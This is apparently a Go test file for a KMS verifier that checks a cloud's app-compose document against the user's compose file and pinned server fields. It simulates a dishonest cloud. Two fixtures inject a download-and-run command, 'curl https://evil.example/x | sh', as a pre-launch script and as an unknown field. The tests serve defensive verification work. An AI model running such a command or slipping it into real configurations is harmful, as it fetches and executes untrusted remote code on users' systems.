package kms

import (
	"errors"
	"slices"
	"strings"
	"testing"
)

func TestVerifyAppComposeHonest(t *testing.T) {
	p := DefaultPins()
	for _, s := range []Serialization{SerializationCompact, SerializationIndent4} {
		raw, err := SerializeAppCompose(mustParseObject(t, honest2026), s)
		if err != nil {
			t.Fatal(err)
		}
		h := sha256Hex(string(raw))
		v, err := p.VerifyAppCompose(raw, "0x"+strings.ToUpper(h), testExpectation())
		if err != nil {
			t.Fatalf("%s: honest document refused: %v", s, err)
		}
		if v.Hash != h || v.Serialization != s || v.PreLaunch != "none" || string(v.Raw) != string(raw) || v.Doc["name"] != "" {
			t.Errorf("%s: verdict %+v", s, v)
		}
	}
}

// cloudDoc returns the honest 2026 document changed by edit, written
// compact, and its hash: a cloud that lies consistently.
func cloudDoc(t *testing.T, edit func(map[string]any)) ([]byte, string) {
	t.Helper()
	doc := mustParseObject(t, honest2026)
	edit(doc)
	raw, err := SerializeAppCompose(doc, SerializationCompact)
	if err != nil {
		t.Fatal(err)
	}
	return raw, sha256Hex(string(raw))
}

func TestVerifyAppComposeLiars(t *testing.T) {
	evilScript := "#!/bin/bash\ncurl https://evil.example/x | sh\n"
	mine, theirs := "#!/bin/bash\necho mine\n", "#!/bin/bash\necho theirs\n"
	// pinsStrictSecureTime has only the 2026 value of secure_time (false).
	pinsStrictSecureTime := DefaultPins()
	pinsStrictSecureTime.AppCompose.ServerFields = slices.DeleteFunc(pinsStrictSecureTime.AppCompose.ServerFields, func(f ServerFieldPin) bool {
		return f.Field == "secure_time" && slices.Contains(f.Values, any(true))
	})

	tests := []struct {
		name string
		pins *Pins
		exp  func(*ComposeExpectation)
		edit func(map[string]any)
		want []string // nil: the document passes
	}{
		{
			name: "extra service in docker_compose_file",
			edit: func(d map[string]any) { d["docker_compose_file"] = testCompose + "  evil:\n    image: evil\n" },
			want: []string{`docker_compose_file differs from your compose file (first difference at line 4: cloud "  evil:", yours "")`},
		},
		{
			name: "docker_compose_file absent",
			edit: func(d map[string]any) { delete(d, "docker_compose_file") },
			want: []string{"docker_compose_file is absent, so the CVM would not run your compose file"},
		},
		{
			name: "pre_launch_script injected when none was sent",
			edit: func(d map[string]any) { d["pre_launch_script"] = evilScript },
			want: []string{"pre_launch_script is present but you sent none, and its sha256 " + sha256Hex(evilScript) + " is not an official Phala script"},
		},
		{
			name: "the user's pre_launch_script replaced",
			exp:  func(e *ComposeExpectation) { e.PreLaunchScript = &mine },
			edit: func(d map[string]any) { d["pre_launch_script"] = theirs },
			want: []string{`pre_launch_script differs from yours (first difference at line 2: cloud "echo theirs", yours "echo mine")`},
		},
		{
			name: "the user's pre_launch_script dropped",
			exp:  func(e *ComposeExpectation) { e.PreLaunchScript = &mine },
			edit: func(d map[string]any) {},
			want: []string{"pre_launch_script is absent, but you sent one"},
		},
		{
			name: "public_logs flipped",
			edit: func(d map[string]any) { d["public_logs"] = false },
			want: []string{"public_logs is false, you asked for true"},
		},
		{
			name: "public_logs not a boolean",
			edit: func(d map[string]any) { d["public_logs"] = "true" },
			want: []string{`public_logs is "true", not a boolean`},
		},
		{
			name: "public_tcbinfo absent counts as true",
			edit: func(d map[string]any) { delete(d, "public_tcbinfo") },
		},
		{
			name: "public_tcbinfo absent is true, the user asked for false",
			exp:  func(e *ComposeExpectation) { e.PublicTcbinfo = false },
			edit: func(d map[string]any) { delete(d, "public_tcbinfo") },
			want: []string{"public_tcbinfo is absent, so dstack's default true applies; you asked for false"},
		},
		{
			name: "secure_time absent counts as true, which the 2025 pin allows",
			edit: func(d map[string]any) { delete(d, "secure_time") },
		},
		{
			name: "secure_time absent counts as true, which only-2026 pins refuse",
			pins: pinsStrictSecureTime,
			edit: func(d map[string]any) { delete(d, "secure_time") },
			want: []string{"secure_time is absent, so dstack's default true applies, which is not a pinned value (pinned: false)"},
		},
		{
			name: "storage_fs absent counts as zfs",
			edit: func(d map[string]any) { delete(d, "storage_fs") },
		},
		{
			name: "storage_fs changed",
			edit: func(d map[string]any) { d["storage_fs"] = "ext4" },
			want: []string{`storage_fs is "ext4", which is not a pinned value (pinned: "zfs")`},
		},
		{
			name: "unknown field",
			edit: func(d map[string]any) { d["init_script"] = "curl https://evil.example/x | sh" },
			want: []string{`field "init_script" is neither your input nor a pinned server field`},
		},
		{
			name: "allowed_envs missing a key",
			edit: func(d map[string]any) { d["allowed_envs"] = []any{"API_KEY"} },
			want: []string{`allowed_envs is ["API_KEY"], you sent ["API_KEY","DB_URL"]`},
		},
		{
			name: "allowed_envs reordered",
			edit: func(d map[string]any) { d["allowed_envs"] = []any{"DB_URL", "API_KEY"} },
			want: []string{`allowed_envs is ["DB_URL","API_KEY"], you sent ["API_KEY","DB_URL"]`},
		},
		{
			name: "allowed_envs absent when none were sent",
			exp:  func(e *ComposeExpectation) { e.AllowedEnvs = nil },
			edit: func(d map[string]any) { delete(d, "allowed_envs") },
		},
		{
			name: "kms_enabled false",
			edit: func(d map[string]any) { d["kms_enabled"] = false },
			want: []string{"kms_enabled is false, so the app's keys would not come from the KMS (key provider none)"},
		},
		{
			name: "key_provider local",
			edit: func(d map[string]any) { d["key_provider"] = "local" },
			want: []string{`key_provider is "local", so the app's keys would not come from the KMS (key provider local)`},
		},
		{
			name: "local_key_provider_enabled true",
			edit: func(d map[string]any) { d["local_key_provider_enabled"] = true },
			want: []string{"local_key_provider_enabled is true, so the app's keys could come from the host's local key provider instead of the KMS"},
		},
		{
			name: "gateway_enabled true, the user turned it off",
			exp:  func(e *ComposeExpectation) { e.GatewayEnabled = false },
			edit: func(d map[string]any) {},
			want: []string{"gateway_enabled is true, you asked for false"},
		},
		{
			name: "gateway_enabled false but tproxy keeps the gateway on",
			exp:  func(e *ComposeExpectation) { e.GatewayEnabled = false },
			edit: func(d map[string]any) { d["gateway_enabled"] = false },
			want: []string{`the gateway is on (tproxy_enabled is true, features include "tproxy-net"), but you turned it off`},
		},
		{
			name: "gateway_enabled absent, tproxy_enabled gives the gateway",
			edit: func(d map[string]any) { delete(d, "gateway_enabled") },
		},
		{
			name: "name changed",
			edit: func(d map[string]any) { d["name"] = "evil" },
			want: []string{`name is "evil", expected ""`},
		},
		{
			name: "the CVM name is acceptable",
			exp:  func(e *ComposeExpectation) { e.Names = []string{"", "my-cvm"} },
			edit: func(d map[string]any) { d["name"] = "my-cvm" },
		},
		{
			name: "runner absent",
			edit: func(d map[string]any) { delete(d, "runner") },
			want: []string{"runner is absent; dstack requires it"},
		},
		{
			name: "every violation is listed",
			edit: func(d map[string]any) {
				d["public_logs"] = false
				d["salt"] = "not hex"
				d["zz_extra"] = 1
			},
			want: []string{
				"public_logs is false, you asked for true",
				`salt is "not hex", which is not a pinned value (pinned: a string matching [0-9a-f]{32}, a string matching [0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})`,
				`field "zz_extra" is neither your input nor a pinned server field`,
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := tt.pins
			if p == nil {
				p = DefaultPins()
			}
			exp := testExpectation()
			if tt.exp != nil {
				tt.exp(&exp)
			}
			raw, h := cloudDoc(t, tt.edit)
			v, err := p.VerifyAppCompose(raw, h, exp)
			if tt.want == nil {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				if v.Hash != h {
					t.Errorf("verdict hash %s", v.Hash)
				}
				return
			}
			var re *ComposeRuleError
			if !errors.As(err, &re) || !errors.Is(err, ErrComposeRule) {
				t.Fatalf("got %v (%T), want a *ComposeRuleError", err, err)
			}
			if !slices.Equal(re.Violations, tt.want) {
				t.Errorf("violations\n%q\nwant\n%q", re.Violations, tt.want)
			}
			if re.Hash != h || !strings.HasPrefix(err.Error(), "the cloud's app-compose (hash "+h+") breaks the rule: ") {
				t.Errorf("error text %q", err)
			}
		})
	}
}

func TestVerifyAppComposeOfficialScript(t *testing.T) {
	script := "#!/bin/bash\necho \"Running Phala Cloud Pre-Launch Script vTEST\"\n"
	p := DefaultPins().Merge(&Pins{AppCompose: AppComposePins{OfficialPreLaunchScripts: []PreLaunchScriptPin{
		{Version: "TEST", Form: "file", SHA256: sha256Hex(script), Source: "test"},
	}}})
	raw, h := cloudDoc(t, func(d map[string]any) { d["pre_launch_script"] = script })
	v, err := p.VerifyAppCompose(raw, h, testExpectation())
	if err != nil {
		t.Fatalf("official script refused: %v", err)
	}
	if want := "Phala pre-launch vTEST (sha256 " + sha256Hex(script)[:6] + "…)"; v.PreLaunch != want {
		t.Errorf("PreLaunch %q, want %q", v.PreLaunch, want)
	}
	// Without the pin the same script is the server's own.
	if _, err := DefaultPins().VerifyAppCompose(raw, h, testExpectation()); !errors.Is(err, ErrComposeRule) {
		t.Errorf("unpinned script: %v", err)
	}
	// The user's own script that also happens to be official is labelled as such.
	exp := testExpectation()
	exp.PreLaunchScript = &script
	if v, err := p.VerifyAppCompose(raw, h, exp); err != nil || v.PreLaunch != "Phala pre-launch vTEST (sha256 "+sha256Hex(script)[:6]+"…)" {
		t.Errorf("user-sent official script: %v, %v", v, err)
	}
	// A script of the user's own: "yours".
	mine := "#!/bin/bash\necho mine\n"
	exp.PreLaunchScript = &mine
	raw, h = cloudDoc(t, func(d map[string]any) { d["pre_launch_script"] = mine })
	if v, err := p.VerifyAppCompose(raw, h, exp); err != nil || v.PreLaunch != "yours" {
		t.Errorf("user's script: %v, %v", v, err)
	}
}

func TestVerifyAppComposeNotEstablished(t *testing.T) {
	p := DefaultPins()
	exp := testExpectation()

	// The hash belongs to another document.
	_, err := p.VerifyAppCompose([]byte(honest2026), sha256Hex("other"), exp)
	var mm *ComposeHashMismatchError
	if !errors.As(err, &mm) || len(mm.Tried) != 2 || mm.Tried[0].Hash != sha256Hex(honest2026) || mm.Tried[1].Serialization != SerializationIndent4 {
		t.Fatalf("got %v, want a mismatch over both serializations", err)
	}
	if !strings.Contains(err.Error(), sha256Hex(honest2026)+" as compact, ") {
		t.Errorf("message %q", err)
	}

	// A repeated key: whichever value a reader keeps, the bytes the cloud
	// hashed are not a serialization of one document.
	dup := strings.Replace(honest2026, `"public_logs":true`, `"public_logs":false,"public_logs":true`, 1)
	if _, err := p.VerifyAppCompose([]byte(dup), sha256Hex(dup), exp); !errors.As(err, &mm) {
		t.Errorf("duplicate key: %v, want *ComposeHashMismatchError", err)
	}

	// Trailing whitespace is not in any pinned serialization either.
	if _, err := p.VerifyAppCompose([]byte(honest2026+"\n"), sha256Hex(honest2026+"\n"), exp); !errors.As(err, &mm) {
		t.Errorf("trailing newline: %v, want *ComposeHashMismatchError", err)
	}

	for _, doc := range []string{`["not","an","object"]`, `"string"`, `{"a":`, "\xff"} {
		_, err := p.VerifyAppCompose([]byte(doc), sha256Hex(doc), exp)
		var re *ComposeRuleError
		if !errors.As(err, &re) || len(re.Violations) != 1 {
			t.Errorf("%q: got %v, want one rule violation", doc, err)
		}
	}
	if _, err := p.VerifyAppCompose([]byte(honest2026), "abc", exp); !errors.Is(err, ErrInvalidInput) {
		t.Errorf("malformed want: %v", err)
	}
}

// The indent4 replace changes a compose file holding `": `. The document is
// checked as the CVM reads it, from the bytes that hash to want, so the
// change is caught whether the cloud hands back those bytes or the object
// before the replace (as an API that re-encodes it would).
func TestVerifyAppComposeIndent4ChangesStrings(t *testing.T) {
	exp := testExpectation()
	exp.DockerCompose = "services:\n  web:\n    command: echo '\"hi\": now'\n"
	doc := mustParseObject(t, honest2026)
	doc["docker_compose_file"] = exp.DockerCompose
	measured, err := SerializeAppCompose(doc, SerializationIndent4)
	if err != nil {
		t.Fatal(err)
	}
	returned, err := SerializeAppCompose(doc, SerializationCompact)
	if err != nil {
		t.Fatal(err)
	}
	want := `docker_compose_file differs from your compose file (first difference at line 3: cloud "    command: echo '\"hi\":now'", yours "    command: echo '\"hi\": now'")`
	for _, got := range [][]byte{measured, returned} {
		_, err = DefaultPins().VerifyAppCompose(got, sha256Hex(string(measured)), exp)
		var re *ComposeRuleError
		if !errors.As(err, &re) || len(re.Violations) != 1 || re.Violations[0] != want {
			t.Errorf("got %v\nwant %s", err, want)
		}
	}
}

func TestIsVerifyFailureComposeRule(t *testing.T) {
	raw, h := cloudDoc(t, func(d map[string]any) { d["public_logs"] = false })
	_, err := DefaultPins().VerifyAppCompose(raw, h, testExpectation())
	if !IsVerifyFailure(err) || errors.Is(err, ErrInvalidInput) {
		t.Errorf("a rule violation is not classified as a verification failure: %v", err)
	}
}
